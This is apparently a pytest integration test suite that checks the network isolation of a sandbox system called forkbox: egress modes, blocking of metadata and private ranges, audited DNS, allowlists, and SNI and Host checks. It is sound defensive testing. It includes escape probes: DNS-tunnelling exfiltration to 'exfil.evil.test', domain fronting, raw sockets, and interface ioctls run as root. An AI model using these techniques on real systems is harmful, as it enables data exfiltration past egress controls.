"""Sandbox networks, modes "none" and "open", against the lab internet of
tests/netlab: what may leave a sandbox, what never may, that root inside
cannot loosen it, that DNS goes through forkbox's resolver and is audited,
allowlists with the egress proxy's SNI and Host checks, counters, and that the
mode changes live."""
import json
import os
import subprocess
import time

import pytest

from conftest import TCP_PORT, sh, wait_pool_settled
from netlab import NetLab

# Run inside the sandbox: each probe prints one JSON line {"what", "ok", "detail"}.
PROBE = r'''
import json, socket, sys
def tcp(host, port, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(3)
    try:
        s.connect((host, port))
        s.sendall(b"GET /probe HTTP/1.0\r\nHost: allowed.test\r\n\r\n")
        data = s.recv(300)
        line = data.split(b"\r\n")[0].decode("latin-1")
        # forkbox's egress proxy may accept and then refuse (403, or a close)
        return " 200 " in line, line or "closed"
    except OSError as e:
        return False, "%s" % e
    finally:
        s.close()
def udp(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2)
    query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04leak\x04evil\x04test\x00\x00\x10\x00\x01"
    try:
        s.sendto(query, (host, port)); s.recv(512); return True, "answered"
    except OSError as e:
        return False, "%s" % e
for line in sys.argv[1:]:
    kind, host, port = line.split(",")
    ok, detail = (tcp if kind == "tcp" else udp)(host, int(port))
    print(json.dumps({"what": line, "ok": ok, "detail": detail}))
'''


@pytest.fixture(scope="module")
def lab():
    with NetLab() as lab:
        yield lab


def probe(client, sid, *targets):
    r = client.put("/v1/sandboxes/%s/files?path=/tmp/probe.py" % sid, raw=PROBE.encode())
    assert r.status == 201, r
    r = client.exec(sid, ["python3", "/tmp/probe.py"] + list(targets), timeout=60)
    assert r["exit_code"] == 0, r
    return {d["what"]: d for d in map(json.loads, r["stdout"].splitlines())}


def host_addresses():
    out = subprocess.run(["ip", "-4", "-o", "addr", "show", "scope", "global"], capture_output=True, text=True).stdout
    return [l.split()[3].split("/")[0] for l in out.splitlines() if not l.split()[1].startswith("fbv")]


def test_none_mode_has_no_route_out(make, client, lab):
    """Mode none (the default): loopback only, the lab is unreachable."""
    sid = make()["id"]
    res = probe(client, sid, "tcp,%s,80" % lab.http_ip)
    assert not res["tcp,%s,80" % lab.http_ip]["ok"]
    assert "eth0" not in sh(client, sid, ["cat", "/proc/net/dev"])


def test_open_mode_reaches_the_internet_but_not_the_blocked_set(make, client, lab):
    """Mode open: public addresses answer; metadata, private ranges, the host and UDP do not."""
    sb = make(network={"mode": "open"})
    assert sb["network"] == {"mode": "open", "allow": []}
    sid = sb["id"]
    lab.clear_logs()
    public = "tcp,%s,80" % lab.http_ip
    blocked = ["tcp,%s,80" % lab.metadata_ip] + ["tcp,%s,22" % ip for ip in lab.private_ips]
    host = ["tcp,%s,%d" % (ip, TCP_PORT) for ip in host_addresses()] + ["tcp,127.0.0.1,%d" % TCP_PORT]
    dns = "udp,%s,53" % lab.upstream_dns
    res = probe(client, sid, public, dns, *(blocked + host))
    assert res[public]["ok"] and "200" in res[public]["detail"], res[public]
    for t in blocked + host + [dns]:
        assert not res[t]["ok"], res[t]
    # nothing reached the blocked hosts, and no DNS query left
    assert lab.log("metadata") == []
    assert lab.log("private10") == [] and lab.log("private192") == []
    assert lab.log("dns") == [] and lab.attacker_queries() == []


RESOLVE = r'''
import socket, sys
for name in sys.argv[1:]:
    try:
        print(name, sorted({a[4][0] for a in socket.getaddrinfo(name, 80, socket.AF_INET, socket.SOCK_STREAM)}))
    except OSError as e:
        print(name, "error", e)
'''


def test_open_mode_resolves_through_forkbox_and_is_audited(make, client, lab):
    """Names resolve through forkbox's resolver (relayed upstream); every query is in the audit trail."""
    sid = make(network={"mode": "open"})["id"]
    gw = sh(client, sid, ["cat", "/etc/resolv.conf"]).split()[1]
    assert gw.startswith("10.2")
    out = sh(client, sid, ["python3", "-c", RESOLVE, "allowed.test", "nosuch.allowed.test"])
    assert "allowed.test ['%s']" % lab.http_ip in out, out
    assert "nosuch.allowed.test error" in out, out
    # and a connection by name works end to end
    code = "import urllib.request; print(urllib.request.urlopen('http://allowed.test/x', timeout=5).status)"
    assert sh(client, sid, ["python3", "-c", code]).strip() == "200"
    r = client.get("/v1/audit?sandbox=" + sid)
    assert r.status == 200, r
    events = r.json()["events"]
    names = {(e["name"], e["type"], e["verdict"]) for e in events}
    assert ("allowed.test", "A", "allowed") in names, events
    assert ("nosuch.allowed.test", "A", "allowed") in names, events
    assert all(e["sandbox"] == sid and e["kind"] == "dns" and e["time"].endswith("Z") for e in events)
    # another tenant's view, a filter by time and bad parameters
    assert client.get("/v1/audit?sandbox=%s&since=4102444800000" % sid).json()["events"] == []
    assert client.get("/v1/audit?since=yesterday").status == 400
    assert client.get("/v1/audit?sandbox=../x").status == 400


def test_dns_to_any_other_server_is_refused(make, client, lab):
    """DNS to a server other than forkbox's (UDP or TCP 53, DNS over TLS) never leaves."""
    sid = make(network={"mode": "open"})["id"]
    lab.clear_logs()
    code = r'''
import socket, struct
def q(name):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + labels + b"\x00\x10\x00\x01"
out = []
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(2)
try:
    u.sendto(q("direct-udp.evil.test"), (%r, 53)); u.recv(512); out.append("udp answered")
except OSError as e:
    out.append("udp refused")
for port in (53, 853):
    t = socket.socket(); t.settimeout(3)
    try:
        t.connect((%r, port)); m = q("direct-tcp.evil.test"); t.sendall(struct.pack("!H", len(m)) + m); t.recv(2)
        out.append("tcp%%d answered" %% port)
    except OSError:
        out.append("tcp%%d refused" %% port)
print(" ".join(out))
''' % (lab.upstream_dns, lab.upstream_dns)
    out = sh(client, sid, ["python3", "-c", code])
    assert out.split() == ["udp", "refused", "tcp53", "refused", "tcp853", "refused"], out
    assert lab.attacker_queries() == []
    assert not any("direct-" in json.dumps(rec) for rec in lab.log("dns")), lab.log("dns")


def test_root_inside_cannot_loosen_the_policy(make, client, lab):
    """Root in the sandbox cannot change routes, addresses or links, nor open raw sockets."""
    sid = make(network={"mode": "open"})["id"]
    code = r'''
import socket, errno
res = []
try:
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); res.append("raw socket opened")
except OSError as e:
    res.append("raw:" + errno.errorcode[e.errno])
try:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW); res.append("packet socket opened")
except OSError as e:
    res.append("packet:" + errno.errorcode[e.errno])
print(" ".join(res))
'''
    out = sh(client, sid, ["python3", "-c", code])
    assert "opened" not in out, out
    # SIOCSIFADDR/SIOCADDRT need CAP_NET_ADMIN, which is not kept
    code = r'''
import fcntl, socket, struct, errno
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
req = struct.pack("16sH2s4s8s", b"eth0", socket.AF_INET, b"\0\0", socket.inet_aton("169.254.169.1"), b"\0" * 8)
try:
    fcntl.ioctl(s, 0x8916, req); print("address changed")
except OSError as e:
    print("addr:" + errno.errorcode[e.errno])
try:
    fcntl.ioctl(s, 0x8914, struct.pack("16sh", b"eth0", 0)); print("link down")
except OSError as e:
    print("flags:" + errno.errorcode[e.errno])
'''
    out = sh(client, sid, ["python3", "-c", code])
    assert "changed" not in out and "link down" not in out, out
    # the metadata server stays out of reach whatever resolv.conf or the routes say
    sh(client, sid, "echo 'nameserver %s' > /etc/resolv.conf" % lab.upstream_dns)
    res = probe(client, sid, "tcp,%s,80" % lab.metadata_ip, "udp,%s,53" % lab.upstream_dns)
    assert not any(r["ok"] for r in res.values()), res
    assert lab.log("metadata") == []


def test_mode_changes_live_without_restarting_processes(make, client, lab):
    """PUT .../network switches none -> open -> none; a process started before keeps running."""
    sid = make()["id"]
    pid = sh(client, sid, "nohup sleep 600 >/dev/null 2>&1 & echo $!").strip()
    public = "tcp,%s,80" % lab.http_ip
    assert not probe(client, sid, public)[public]["ok"]
    r = client.put("/v1/sandboxes/%s/network" % sid, raw=json.dumps({"mode": "open"}).encode(),
                   headers={"Content-Type": "application/json"})
    assert r.status == 200, r
    assert r.json()["network"]["mode"] == "open"
    assert client.get("/v1/sandboxes/" + sid).json()["network"]["mode"] == "open"
    assert probe(client, sid, public)[public]["ok"]
    r = client.put("/v1/sandboxes/%s/network" % sid, raw=json.dumps({"mode": "none"}).encode(),
                   headers={"Content-Type": "application/json"})
    assert r.status == 200, r
    assert not probe(client, sid, public)[public]["ok"]
    assert sh(client, sid, "kill -0 %s && echo alive" % pid) == "alive\n"


def test_bad_network_changes_are_refused(make, client):
    """Unknown modes, bad entries and blocked ranges are 400; nothing changes."""
    sid = make()["id"]
    for body, code in (({"mode": "wide"}, 400), ({"mode": "open", "allow": ["x.test"]}, 400),
                       ({"mode": "allowlist", "allow": ["169.254.169.254"]}, 400),
                       ({"mode": "allowlist", "allow": ["bad name.test"]}, 400), ({"bogus": 1}, 400), ([], 400)):
        r = client.put("/v1/sandboxes/%s/network" % sid, raw=json.dumps(body).encode(),
                       headers={"Content-Type": "application/json"})
        assert r.status == code, (body, r)
    assert client.get("/v1/sandboxes/" + sid).json()["network"]["mode"] == "none"
    assert client.put("/v1/sandboxes/sbx_0000000000000000/network", raw=b'{"mode": "open"}',
                      headers={"Content-Type": "application/json"}).status == 404


# the test daemon's table: forkbox_<first uid slot> (--uid-pool-start 100000000)
NFT_TABLE = "forkbox_%d" % (100000000 // 65536)


def nft_map():
    return subprocess.run(["nft", "list", "map", "inet", NFT_TABLE, "sandboxes"], capture_output=True,
                          text=True).stdout


def test_delete_removes_the_link_and_policy(client, lab):
    """Deleting a networked sandbox removes its host link and its policy entry."""
    before = set(os.listdir("/sys/class/net"))
    sb = client.create(network={"mode": "open"})
    new = [l for l in set(os.listdir("/sys/class/net")) - before if l.startswith("fbv")]
    assert len(new) == 1, new
    link = new[0]
    assert '"%s"' % link in nft_map()
    client.delete("/v1/sandboxes/" + sb["id"])
    deadline = time.time() + 10
    while time.time() < deadline and (os.path.exists("/sys/class/net/" + link) or '"%s"' % link in nft_map()):
        time.sleep(0.05)
    assert not os.path.exists("/sys/class/net/" + link)
    assert '"%s"' % link not in nft_map()


def test_ipv6_to_the_host_is_refused(client, lab):
    """A host service on [::] is not reachable from a sandbox over IPv6 link-local."""
    import socket
    import threading
    before = set(os.listdir("/sys/class/net"))
    sb = client.create(network={"mode": "open"})
    try:
        link = [l for l in set(os.listdir("/sys/class/net")) - before if l.startswith("fbv")][0]
        out = subprocess.run(["ip", "-6", "-o", "addr", "show", "dev", link, "scope", "link"], capture_output=True,
                             text=True).stdout
        if "fe80" not in out:
            pytest.skip("no IPv6 link-local address on the sandbox link")
        host_ll = out.split()[3].split("/")[0]
        srv = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
        srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        srv.bind(("::", 0))
        srv.listen(4)
        srv.settimeout(0.2)
        port = srv.getsockname()[1]
        hits = []
        stop = threading.Event()

        def accept():
            while not stop.is_set():
                try:
                    hits.append(srv.accept())
                except OSError:
                    pass
        t = threading.Thread(target=accept)
        t.start()
        code = ("import socket\ns = socket.socket(socket.AF_INET6); s.settimeout(3)\n"
                "try:\n    s.connect(('%s%%eth0', %d)); print('connected')\n"
                "except OSError as e:\n    print('refused', e)\n" % (host_ll, port))
        out = sh(client, sb["id"], ["python3", "-c", code])
        stop.set()
        t.join()
        srv.close()
        assert out.startswith("refused"), out
        assert hits == []
    finally:
        client.delete("/v1/sandboxes/" + sb["id"])


def test_cli_network_flags(daemon, cli_env, client):
    """forkbox create --network/--disk and forkbox network ID MODE."""
    from conftest import CLI
    r = subprocess.run([CLI, "create", "--network", "open", "--disk", "64"], env=cli_env, capture_output=True,
                       text=True, timeout=60)
    assert r.returncode == 0, r.stderr
    sid = r.stdout.strip()
    try:
        sb = client.get("/v1/sandboxes/" + sid).json()
        assert sb["network"]["mode"] == "open" and sb["resources"]["disk_mb"] == 64
        r = subprocess.run([CLI, "network", sid, "none"], env=cli_env, capture_output=True, text=True, timeout=60)
        assert r.returncode == 0 and r.stdout.strip() == "%s: network none" % sid, (r.stdout, r.stderr)
        r = subprocess.run([CLI, "network", sid, "sideways"], env=cli_env, capture_output=True, text=True,
                           timeout=60)
        assert r.returncode != 0 and "network.mode" in r.stderr, (r.stdout, r.stderr)
        r = subprocess.run([CLI, "network", sid, "allowlist", "Allowed.test", "198.18.0.50:80"], env=cli_env,
                           capture_output=True, text=True, timeout=60)
        assert r.returncode == 0, r.stderr
        assert client.get("/v1/sandboxes/" + sid).json()["network"]["allow"] == ["allowed.test", "198.18.0.50:80"]
    finally:
        client.delete("/v1/sandboxes/" + sid)
    r = subprocess.run([CLI, "create", "--allow", "allowed.test", "--allow", "*.cdn.test"], env=cli_env,
                       capture_output=True, text=True, timeout=60)
    assert r.returncode == 0, r.stderr
    sid = r.stdout.strip()
    try:
        assert client.get("/v1/sandboxes/" + sid).json()["network"] == {"mode": "allowlist",
                                                                          "allow": ["allowed.test", "*.cdn.test"]}
    finally:
        client.delete("/v1/sandboxes/" + sid)


def resolve(client, sid, *names):
    out = sh(client, sid, ["python3", "-c", RESOLVE] + list(names))
    return {l.split(" ", 1)[0]: l.split(" ", 1)[1] for l in out.splitlines()}


def test_allowlist_resolves_and_reaches_only_listed_destinations(make, client, lab):
    """Only listed names resolve (exact and *. wildcard); only what they resolved to, or a listed CIDR:port, is reachable."""
    sb = make(network={"mode": "allowlist", "allow": ["allowed.test", "*.cdn.test", "198.18.0.50/32:80"]})
    assert sb["network"]["allow"] == ["allowed.test", "*.cdn.test", "198.18.0.50:80"]
    sid = sb["id"]
    got = resolve(client, sid, "allowed.test", "www.cdn.test", "other.test", "www.allowed.test", "cdn.test")
    assert got["allowed.test"] == "['198.18.0.10']", got
    assert got["www.cdn.test"] == "['198.18.0.30']", got  # wildcard; the CNAME target's address is learnt
    for denied in ("other.test", "www.allowed.test", "cdn.test"):
        assert got[denied].startswith("error"), got
    res = probe(client, sid, "tcp,198.18.0.10,80", "tcp,198.18.0.30,80", "tcp,198.18.0.50,80",
                "tcp,198.18.0.50,443", "tcp,198.18.0.20,80", "tcp,198.18.0.11,80")
    assert res["tcp,198.18.0.10,80"]["ok"] and res["tcp,198.18.0.30,80"]["ok"], res
    assert res["tcp,198.18.0.50,80"]["ok"], res
    for t in ("tcp,198.18.0.50,443", "tcp,198.18.0.20,80", "tcp,198.18.0.11,80"):
        assert not res[t]["ok"], res[t]
    events = client.get("/v1/audit?sandbox=" + sid).json()["events"]
    verdicts = {e["name"]: e["verdict"] for e in events}
    assert verdicts["allowed.test"] == "allowed" and verdicts["other.test"] == "denied", verdicts


def test_networked_create_draws_from_the_warm_pool(daemon, make, client, lab):
    """A networked create takes a pre-started sandbox (its namespaces made ahead) and only adds the
    link and the policy; the result is a sandbox like any other of its mode."""
    wait_pool_settled()
    sid = make(network={"mode": "allowlist", "allow": ["allowed.test"]})["id"]
    with open(daemon.log_path, encoding="utf-8", errors="replace") as f:
        assert "sandbox %s created from the warm pool" % sid in f.read()
    assert "eth0" in sh(client, sid, ["cat", "/proc/net/dev"])
    assert resolve(client, sid, "allowed.test", "other.test")["allowed.test"] == "['198.18.0.10']"
    res = probe(client, sid, "tcp,198.18.0.10,80", "tcp,198.18.0.20,80")
    assert res["tcp,198.18.0.10,80"]["ok"] and not res["tcp,198.18.0.20,80"]["ok"], res
    # a warm sandbox taken for mode none is still loopback-only
    wait_pool_settled()
    plain = make()["id"]
    assert "eth0" not in sh(client, plain, ["cat", "/proc/net/dev"])


def test_allowlist_dns_tunnel_reaches_nothing(make, client, lab):
    """A DNS-tunnelling attempt towards a non-allowed domain delivers zero queries to its nameserver."""
    sid = make(network={"mode": "allowlist", "allow": ["allowed.test"]})["id"]
    lab.clear_logs()
    code = r'''
import os, socket, struct, binascii
gw = open("/etc/resolv.conf").read().split()[1]
def q(name, qtype):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
    return os.urandom(2) + b"\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + labels + struct.pack("!HH", qtype, 1)
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(3)
rcodes = {}
for i in range(60):
    chunk = binascii.hexlify(os.urandom(16)).decode()
    u.sendto(q("%s.%d.exfil.evil.test" % (chunk, i), 16 if i % 2 else 1), (gw, 53))
    rc = u.recv(4096)[3] & 0xf
    rcodes[rc] = rcodes.get(rc, 0) + 1
t = socket.create_connection((gw, 53), timeout=3)
m = q("tcp-leak.evil.test", 16)
t.sendall(struct.pack("!H", len(m)) + m)
ln = struct.unpack("!H", t.recv(2))[0]
rcodes["tcp"] = t.recv(ln)[3] & 0xf
print(rcodes)
'''
    out = sh(client, sid, ["python3", "-c", code], timeout=120)
    assert out.strip() == "{3: 60, 'tcp': 3}", out  # all NXDOMAIN, answered by forkbox itself
    assert lab.attacker_queries() == []
    assert not any("evil" in json.dumps(rec) for rec in lab.log("dns")), lab.log("dns")
    denied = [e for e in client.get("/v1/audit?sandbox=" + sid).json()["events"] if e["verdict"] == "denied"]
    assert len(denied) == 61
    assert {e["type"] for e in denied} == {"A", "TXT"}


def test_allowlist_change_live(make, client, lab):
    """Switching open -> allowlist live narrows what a running sandbox reaches."""
    sid = make(network={"mode": "open"})["id"]
    assert probe(client, sid, "tcp,198.18.0.20,80")["tcp,198.18.0.20,80"]["ok"]
    r = client.put("/v1/sandboxes/%s/network" % sid,
                   raw=json.dumps({"mode": "allowlist", "allow": ["allowed.test"]}).encode(),
                   headers={"Content-Type": "application/json"})
    assert r.status == 200, r
    assert r.json()["network"] == {"mode": "allowlist", "allow": ["allowed.test"]}
    assert not probe(client, sid, "tcp,198.18.0.20,80")["tcp,198.18.0.20,80"]["ok"]
    assert resolve(client, sid, "allowed.test")["allowed.test"] == "['198.18.0.10']"
    assert probe(client, sid, "tcp,198.18.0.10,80")["tcp,198.18.0.10,80"]["ok"]


FRONT = r'''
import json, socket, ssl, sys
out = {}
def http(ip, host):
    s = socket.create_connection((ip, 80), timeout=5)
    s.sendall(("GET /front HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % host).encode())
    data = b""
    while True:
        d = s.recv(4096)
        if not d:
            break
        data += d
    return data.split(b"\r\n")[0].decode() if data else "closed"
def tls(ip, sni):
    ctx = ssl.create_default_context(); ctx.check_hostname = False; ctx.verify_mode = ssl.CERT_NONE
    try:
        with socket.create_connection((ip, 443), timeout=5) as raw:
            with ctx.wrap_socket(raw, server_hostname=sni) as s:
                s.sendall(("GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n" % sni).encode())
                return s.recv(100).split(b"\r\n")[0].decode()
    except (OSError, ssl.SSLError) as e:
        return "failed: %s" % type(e).__name__
ip = sys.argv[1]
out["http allowed"] = http(ip, "allowed.test")
out["http fronted"] = http(ip, "other.test")
out["tls allowed"] = tls(ip, "allowed.test")
out["tls fronted"] = tls(ip, "other.test")
print(json.dumps(out))
'''


def test_allowlist_checks_sni_and_host(make, client, lab):
    """Web traffic of an allowlist sandbox goes through forkbox's egress proxy: a connection to an
    allowed address that names a non-allowed host (domain fronting) is refused, by TLS SNI and by Host."""
    sid = make(network={"mode": "allowlist", "allow": ["allowed.test"]})["id"]
    lab.clear_logs()
    assert resolve(client, sid, "allowed.test")["allowed.test"] == "['%s']" % lab.http_ip
    r = client.exec(sid, ["python3", "-c", FRONT, lab.http_ip], timeout=60)
    assert r["exit_code"] == 0, r["stderr"][-2000:]
    out = json.loads(r["stdout"])
    assert out["http allowed"].endswith("200 OK"), out
    assert out["http fronted"].endswith("403 Forbidden"), out
    assert out["tls allowed"].endswith("200 OK"), out
    assert out["tls fronted"].startswith("failed"), out
    # the fronted requests never reached the server
    assert not any("other.test" in json.dumps(rec) for rec in lab.log("http") + lab.log("https")), lab.log("https")
    events = client.get("/v1/audit?sandbox=" + sid).json()["events"]
    web = {(e["kind"], e["name"].split(" ")[0], e["verdict"]) for e in events if e["kind"] in ("tls", "http")}
    assert ("http", "allowed.test", "allowed") in web and ("http", "other.test", "denied") in web, web
    assert ("tls", "allowed.test", "allowed") in web and ("tls", "other.test", "denied") in web, web


def test_network_counters_in_get_and_metrics(make, client, lab):
    """Per-sandbox bytes, connections and denied attempts by reason, in GET and in /metrics."""
    sid = make(network={"mode": "open"})["id"]
    before = client.get("/v1/sandboxes/" + sid).json()["usage"]["network"]
    assert set(before) == {"bytes_out", "bytes_in", "connections", "denied"}
    assert set(before["denied"]) == {"blocked_destination", "protocol", "dns", "policy", "host"}
    probe(client, sid, "tcp,%s,80" % lab.http_ip, "tcp,%s,80" % lab.metadata_ip, "udp,%s,53" % lab.upstream_dns,
          "tcp,%s,53" % lab.upstream_dns, "tcp,10.224.0.1,22")
    after = client.get("/v1/sandboxes/" + sid).json()["usage"]["network"]
    assert after["bytes_out"] > before["bytes_out"] and after["bytes_in"] > before["bytes_in"], after
    assert after["connections"] >= before["connections"] + 1, after
    d0, d1 = before["denied"], after["denied"]
    for reason in ("blocked_destination", "protocol", "dns"):
        assert d1[reason] > d0[reason], (reason, after)
    r = client.get("/metrics")
    assert r.status == 200 and r.headers["Content-Type"].startswith("text/plain"), r
    text = r.body.decode()
    assert 'forkbox_sandbox_network_bytes_total{sandbox="%s",direction="out"}' % sid in text
    line = [l for l in text.splitlines()
            if l.startswith('forkbox_sandbox_network_denied_total{sandbox="%s",reason="blocked_destination"}' % sid)]
    assert line and int(line[0].split()[-1]) >= d1["blocked_destination"], line
    assert 'forkbox_sandboxes{state="running"}' in text
    assert client.get("/metrics", key=False).status == 401
    # a sandbox without a network has no network counters
    other = make()["id"]
    assert "network" not in client.get("/v1/sandboxes/" + other).json()["usage"]
